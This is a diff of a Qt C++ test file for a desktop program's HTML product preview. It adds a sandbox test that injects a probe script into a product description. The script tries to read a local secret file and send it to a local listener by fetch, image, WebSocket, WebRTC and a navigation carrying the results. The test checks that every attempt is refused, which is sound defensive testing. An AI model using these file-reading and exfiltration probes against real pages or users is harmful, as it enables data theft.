@@ -6,6 +6,9 @@
 
 #include <QFileInfo>
 #include <QSignalSpy>
+#include <QTcpServer>
+#include <QTcpSocket>
+#include <QTemporaryFile>
 #include <QTest>
 #include <memory>
 
@@ -128,13 +131,16 @@ private slots:
         QCOMPARE(m_view->address(), page);
         QVERIFY(evaluate(*m_view, u"document.getElementById('box') !== null"_s).toBool());
 
-        // Without a handler the made-up address is not looked for on disk.
+        // Without a handler the made-up address is not looked for on disk: the navigation is
+        // reported and refused, and the page stays.
         m_view->disconnect(this);
+        QSignalSpy before(m_view.get(), &WebView::beforeNavigate);
         evaluate(*m_view, u"document.getElementById('box').click(); true"_s);
-        QTest::qWait(500);
+        QTRY_VERIFY_WITH_TIMEOUT(!before.isEmpty(), Patience);
         QTRY_VERIFY_WITH_TIMEOUT(!m_view->isBusy(), Patience);
         QVERIFY(failed.isEmpty());
         QCOMPARE(m_view->address(), page);
+        QVERIFY(evaluate(*m_view, u"document.getElementById('box') !== null"_s).toBool());
     }
 
     void missingPageReportsAnError() {
@@ -169,6 +175,87 @@ private slots:
         QTRY_VERIFY_WITH_TIMEOUT(!complete.isEmpty(), Patience);
         QCOMPARE(results.value(4), true);
         QCOMPARE(m_view->title(), u"Done"_s);
+    }
+
+    // A product text with a script runs in the preview, but reads no file outside the program
+    // folder and reaches no network address: not by fetch, a picture, a WebSocket, a peer
+    // connection (also one taken from a fresh frame) or by leaving the page. A web address the
+    // program opens itself still loads.
+    void pagesOfTheProgramAreConfined() {
+        QTcpServer listener;
+        QVERIFY(listener.listen(QHostAddress::LocalHost));
+        QStringList requests;
+        connect(&listener, &QTcpServer::newConnection, this, [&] {
+            while (QTcpSocket* socket = listener.nextPendingConnection()) {
+                connect(socket, &QTcpSocket::readyRead, socket, [socket, &requests] {
+                    requests << QString::fromLatin1(socket->readAll().split('\n').first());
+                    socket->write("HTTP/1.0 200 OK\r\nContent-Type: text/html\r\n\r\n"
+                                  "<title>Supplier shop</title>shop");
+                    socket->disconnectFromHost();
+                });
+            }
+        });
+        const QString server = u"127.0.0.1:%1"_s.arg(listener.serverPort());
+        QTemporaryFile secret; // outside the program folder
+        QVERIFY(secret.open());
+        secret.write("secret-words");
+        secret.close();
+        const QString secretUrl = QUrl::fromLocalFile(secret.fileName()).toString();
+
+        PreviewProduct product;
+        product.StockNo = u"AB7"_s;
+        product.Picture = u"Pictures\\AB7.gif"_s;
+        product.ProdDesc =
+            u"<script>var got = {}; function report(k, v) { got[k] = v;"
+            " if (Object.keys(got).length == 7) document.title = 'probed ' + JSON.stringify(got); }"
+            "fetch('SECRET').then(r => r.text()).then(t => report('file', t),"
+            " () => report('file', 'blocked'));"
+            "var x = new XMLHttpRequest(); x.onload = () => report('xhr', x.responseText);"
+            " x.onerror = () => report('xhr', 'blocked');"
+            " try { x.open('GET', 'SECRET'); x.send(); } catch (e) { report('xhr', 'blocked'); }"
+            "fetch('http://SERVER/fetch', {mode: 'no-cors'}).then(() => report('fetch', 'sent'),"
+            " () => report('fetch', 'blocked'));"
+            "var i = new Image(); i.onload = () => report('image', 'loaded');"
+            " i.onerror = () => report('image', 'blocked'); i.src = 'http://SERVER/image.png';"
+            "try { var w = new WebSocket('ws://SERVER/socket');"
+            " w.onopen = () => report('socket', 'open'); w.onerror = () => report('socket', "
+            "'blocked');"
+            "} catch (e) { report('socket', 'blocked'); }"
+            "var f = document.createElement('iframe'); f.onload = () => { var t = '';"
+            " try { t = f.contentDocument.body.innerText; } catch (e) {} report('frame', t); };"
+            " f.src = 'SECRET'; document.body.appendChild(f);"
+            "try { var blank = document.createElement('iframe'); document.body.appendChild(blank);"
+            " var Peer = blank.contentWindow.RTCPeerConnection || RTCPeerConnection;"
+            " var pc = new Peer({iceServers: [{urls:"
+            " 'turn:SERVER?transport=tcp', username: 'u', credential: 'c'}]});"
+            " pc.createDataChannel('d'); pc.onicegatheringstatechange = () => {"
+            " if (pc.iceGatheringState == 'complete') report('rtc', 'gathered'); };"
+            " pc.createOffer().then(o => pc.setLocalDescription(o), () => report('rtc', "
+            "'blocked'));"
+            "} catch (e) { report('rtc', 'blocked'); }"
+            "</script>"_s;
+        product.ProdDesc.replace(u"SECRET"_s, secretUrl).replace(u"SERVER"_s, server);
+        QVERIFY(show(PreviewPage::write(product, PreviewPage::Size::Large)));
+        QTRY_VERIFY_WITH_TIMEOUT(m_view->title().startsWith(u"probed "_s), Patience);
+        const QString probed = m_view->title();
+        QVERIFY2(!probed.contains(u"secret-words"_s), qPrintable(probed));
+        for (const QString& probe : {u"fetch"_s, u"image"_s, u"socket"_s})
+            QVERIFY2(probed.contains(u"\""_s + probe + u"\":\"blocked\""_s), qPrintable(probed));
+        // The page's own picture still shows.
+        QVERIFY(evaluate(*m_view, u"document.images[0].naturalWidth"_s).toInt() > 0);
+
+        // Leaving the page for the network is refused as well.
+        QSignalSpy failed(m_view.get(), &WebView::navigateError);
+        evaluate(*m_view,
+                 u"location.href = 'http://%1/leave?' + document.title; true"_s.arg(server));
+        QTRY_VERIFY_WITH_TIMEOUT(!failed.isEmpty(), Patience);
+        QVERIFY(requests.isEmpty());
+
+        // The listener answers a navigation the program makes: the refusals above were the
+        // confinement's, not a listener out of reach.
+        QVERIFY(show(u"http://%1/shop"_s.arg(server)));
+        QCOMPARE(m_view->title(), u"Supplier shop"_s);
+        QCOMPARE(requests, QStringList{u"GET /shop HTTP/1.1\r"_s});
     }
 
     // Writing into a view that has shown nothing yet still gives a working page.
